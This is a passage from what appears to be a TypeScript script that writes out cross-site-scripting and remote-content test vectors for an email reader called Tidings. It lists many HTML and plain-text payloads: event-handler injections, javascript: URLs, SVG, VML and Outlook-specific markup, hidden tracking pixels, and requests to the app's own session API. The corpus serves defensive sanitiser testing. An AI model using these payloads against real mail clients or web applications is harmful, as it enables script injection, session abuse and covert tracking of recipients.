      '<style>p{background:url(./api/session)}</style><p>x</p>',
    ],
    [
      'relative-table',
      'relative table background',
      '<table background="/api/session"><tr><td>x</td></tr></table>',
    ],
    [
      'relative-svg-image',
      'relative svg image',
      '<svg><image href="/api/session" width="5" height="5"/></svg>',
    ],
    [
      'relative-feimage',
      'relative feImage',
      '<svg><filter id="f"><feImage href="/api/session"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
    ['relative-link', 'relative link to the API', '<a href="/api/session/logout">Sign out</a>'],
    [
      'relative-form',
      'form posting to the API',
      '<form action="/api/session" method="post"><button>x</button></form>',
    ],
    [
      'relative-refresh',
      'refresh to the API',
      '<meta http-equiv="refresh" content="0;url=/api/session">',
    ],
    ['relative-base', 'base href into the API', '<base href="/api/"><img src="session">'],
    ['relative-iframe', 'iframe of the API', '<iframe src="/api/session"></iframe>'],
    [
      'relative-source',
      'object of the message source',
      '<object data="/api/message/source?mailbox=INBOX&amp;uidValidity=1&amp;uid=1"></object>',
    ],
    [
      'relative-socket',
      'image from the socket path',
      '<img src="/socket.io/?EIO=4&amp;transport=polling" onerror="alert(1)">',
    ],
    [
      'relative-assets',
      'image from the app assets',
      '<img src="/assets/index.js" onerror="alert(1)"><img src="/favicon.svg" onerror="top.__xss=1">',
    ],
    [
      'gateway-loopback',
      'absolute loopback URL',
      '<img src="http://127.0.0.1/api/session"><img src="http://localhost/api/session">',
    ],
    [
      'body-background-javascript',
      'body background javascript:',
      '<body background="javascript:alert(1)">x</body>',
    ],
    [
      'body-bgcolor-css',
      'bgcolor carrying CSS',
      '<body bgcolor="#fff;background:url(http://remote.invalid/bgcolor.png)">x</body>',
    ],
    [
      'body-text-css',
      'text carrying CSS',
      '<body text="red;background:url(http://remote.invalid/text.png)">x</body>',
    ],
    [
      'body-style-remote',
      'body style with a remote background',
      '<body style="background:url(http://remote.invalid/body-style.png)">x</body>',
    ],
    [
      'second-body',
      'a second body adding attributes',
      '<body>x<body onload="alert(1)" background="http://remote.invalid/body2.png">y</body>',
    ],
    [
      'body-in-head',
      'body attributes from inside the head',
      '<head><body onload="top.__xss=1"></head>x',
    ],
    [
      'html-style',
      'html style and handler',
      '<html style="background:url(http://remote.invalid/html-style.png)" onload="alert(1)"><body>x</body></html>',
    ],
    [
      'body-link-colors',
      'body link colours with javascript:',
      '<body link="javascript:alert(1)" vlink="#00f" alink="red">x</body>',
    ],
    [
      'body-bgcolor-quote',
      'bgcolor closing the wrapper style',
      '<body bgcolor="red&quot; onmouseover=&quot;alert(1)">x</body>',
    ],
    [
      'tracker-hidden',
      'hidden tracking pixel',
      '<img src="http://remote.invalid/open.gif?u=1" width="1" height="1" style="display:none">',
    ],
    [
      'tracker-zero',
      'zero-size tracking pixel',
      '<img src="https://remote.invalid/p.gif" width="0" height="0" border="0">',
    ],
    [
      'pre-marked-blocked',
      'image pre-marked as blocked',
      '<img data-tidings-blocked src="http://remote.invalid/pre-marked.png">',
    ],
    [
      'wrapper-class',
      'markup imitating the reader wrapper',
      '<div class="tidings-message" style="background:url(http://remote.invalid/wrapper.png)"><div class="tidings-plain" onmouseover="alert(1)">x</div></div>',
    ],
    [
      'quoted-reply',
      'payload inside a quoted reply',
      '<blockquote type="cite"><div>On Monday someone wrote:</div><img src=x onerror=alert(1)></blockquote>',
    ],
    [
      'alt-markup',
      'alt text with markup',
      '<img src="x" alt="&lt;img src=x onerror=alert(1)&gt;">',
    ],
    [
      'title-markup',
      'title with markup',
      '<div title="&lt;/div&gt;&lt;img src=x onerror=alert(1)&gt;">x</div>',
    ],
    [
      'link-target-parent',
      'link with target _parent',
      '<a href="https://remote.invalid/parent" target="_parent">x</a>',
    ],
    [
      'link-referrer',
      'link with ping and referrer policy',
      '<a href="https://remote.invalid/" ping="http://remote.invalid/ping2" referrerpolicy="unsafe-url">x</a>',
    ],
    [
      'vml-image',
      'VML image',
      '<html xmlns:v="urn:schemas-microsoft-com:vml"><body><v:image src="http://remote.invalid/vml.png" style="width:10px;height:10px"/></body></html>',
    ],
    [
      'vml-fill',
      'VML rect fill with behavior',
      '<v:rect style="behavior:url(#default#VML);width:10px;height:10px"><v:fill type="tile" src="http://remote.invalid/vml-fill.png"/></v:rect>',
    ],
    [
      'mso-conditional',
      'Outlook conditional comment',
      '<!--[if mso]><img src="http://remote.invalid/mso.png"><![endif]--><!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->',
    ],
    ['office-namespace', 'Office o:p with a handler', '<o:p onmouseover="alert(1)">x</o:p>'],
    [
      'xml-island',
      'XML data island',
      '<xml id="x"><x:script>alert(1)</x:script></xml><span datasrc="#x" datafld="a" dataformatas="html"></span>',
    ],
    [
      'amp-email',
      'AMP for Email markup',
      '<amp-img src="http://remote.invalid/amp.png" width="1" height="1"></amp-img><amp-list src="http://remote.invalid/amp.json"></amp-list>',
    ],
  ];
  for (const [slug, title, html] of shapes) add('mail', slug, title, html);

  const text: [string, string, string][] = [
    ['angle-javascript', 'javascript: in angle brackets', 'see <javascript:alert(1)> for details'],
    ['paren-javascript', 'javascript: in parentheses', 'Click (javascript:alert(1)) now'],
    ['markdown-javascript', 'markdown link to javascript:', '[docs](javascript:alert(1))'],
    ['upper-javascript', 'JAVASCRIPT: in upper case', 'JAVASCRIPT:alert(1)'],
    ['tab-javascript', 'tab in the scheme', 'java\tscript:alert(1)'],
    [
      'fragment-markup',
      'markup after a URL fragment',
      'https://example.test/#"><img src=x onerror=alert(1)>',
    ],
    ['single-quote', 'single-quote break-out', "https://example.test/?a='onmouseover='alert(1)'"],
    ['backtick', 'backtick break-out', 'https://example.test/`onmouseover=alert(1)`'],
    ['mailto-markup', 'mailto with markup', 'mailto:"><svg onload=alert(1)>@example.test'],
    [
      'remote-and-tag',
      'remote URL and an image tag',
      'https://remote.invalid/a.png <img src="https://remote.invalid/b.png">',
    ],
    [
      'entities-in-url',
      'entities in a URL',
      'https://example.test/&lt;script&gt;alert(1)&lt;/script&gt;',
    ],
    ['vbscript', 'vbscript: in text', 'vbscript:alert(1)'],
    [
      'data-base64',
      'data: URL in text',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    ],
    [
      'quoted-breakout',
      'quoted line with a break-out',
      '>> https://example.test/"><script>alert(1)</script>',
    ],
    [
      'rtl-override',
      'right-to-left override before markup',
      'http://example.test/\u202e<img src=x onerror=alert(1)>',
    ],
    [
      'html-document',
      'a whole HTML document as text',
      '<html><body onload=alert(1)><img src="http://remote.invalid/text-html.png"></body></html>',
    ],
    ['userinfo', 'URL with user info', 'https://user:pass@remote.invalid/login'],
    ['loopback', 'loopback URL to the API', 'http://[::1]/api/session'],
    [
      'www-javascript',
      'www link with javascript: in the path',
      'www.remote.invalid/javascript:alert(1)',
    ],
    [
      'style-text',
      'style element as text',
      '<style>@import "http://remote.invalid/text-style.css";</style>',
    ],
  ];
  for (const [slug, title, body] of text) add('plain-text', slug, title, body, 'text');
}

eventHandlers();
urlSchemes();
svgAnimation();
svgFuncIri();
namespaceConfusion();
parserBreakouts();
css();
documentLevel();
embedding();
forms();
mail();

const file: CorpusFile = {
  source:
    'Written for Tidings: systematic combinations generated by e2e/support/generate-xss-vectors.ts (elements × event handlers, URL-bearing attributes × schemes, SVG animation, FuncIRI and feImage, namespace confusion, parser break-outs, CSS, document-level tags, embedding, forms, mail-specific URLs and bodies, plain text); nothing copied.',
  origin: 'Tidings',
  licence: 'MIT',
  notes:
    'Remote URLs use remote.invalid (RFC 2606: never resolvable). Payloads call alert(1) or print(), set top.__xss or log TIDINGS-XSS, all of which the e2e suite watches. Vectors with "type": "text" are sent as text/plain bodies. Regenerate with: pnpm exec tsx e2e/support/generate-xss-vectors.ts',
  count: vectors.length,
  vectors,
};
writeFileSync(OUT, `${JSON.stringify(file, null, 2)}\n`);

const byCategory = new Map<string, number>();
for (const vector of vectors) {
  byCategory.set(vector.category, (byCategory.get(vector.category) ?? 0) + 1);
}
console.log(`${vectors.length} vectors written to ${OUT}`);
for (const [category, count] of byCategory) console.log(`  ${category}: ${count}`);
